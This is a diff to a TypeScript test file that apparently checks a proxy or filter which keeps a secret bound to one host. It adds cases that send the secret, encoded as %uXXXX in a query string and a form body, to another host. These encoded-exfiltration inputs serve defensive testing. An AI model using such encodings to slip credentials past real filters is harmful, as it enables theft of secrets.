@@ -132,7 +132,7 @@ t.test('control: the same places without a secret pass, compressed or not; the b
   t.equal(allowed.received.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'the bound host got the value in its slot');
 });
 
-t.test('the spellings that got through before: compressed bodies, quoted-printable, narrow base64, uuencode, nested MIME layers, UTF-16, split by blanks', async (t) => {
+t.test('the spellings that got through before: compressed bodies, quoted-printable, narrow base64, uuencode, nested MIME layers, UTF-16, split by blanks, %uXXXX', async (t) => {
   const b64 = (v: string, width: number, eol: string): string => Buffer.from(v).toString('base64').replace(new RegExp(`(.{${width}})(?=.)`, 'g'), `$1${eol}`);
   const qp = (v: string): string => [...Buffer.from(v)].map((x) => `=${x.toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/.{72}/g, '$&=\r\n');
   for (const [what, v] of [['the value', SECRET], ['the placeholder', PH]] as const) {
@@ -153,6 +153,8 @@ t.test('the spellings that got through before: compressed bodies, quoted-printab
       ['query base64 split by %20', `${otherUrl}/n?d=${b64(v, 6, '%20')}`, {}],
       ['query base64 split by +', `${otherUrl}/n?d=${b64(v, 6, '+')}`, {}],
       ['query base64 split by %0A', `${otherUrl}/n?d=${b64(v, 5, '%0A')}`, {}],
+      ['query as %uXXXX (IIS, ASP.NET)', `${otherUrl}/n?d=${[...v].map((c) => `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}`, {}],
+      ['form every other character as %uXXXX', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `d=${[...v].map((c, i) => (i % 2 ? c : `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)).join('')}` }],
     ];
     for (const [label, url, opts] of cases) {
       const r = await attempt(url, opts);
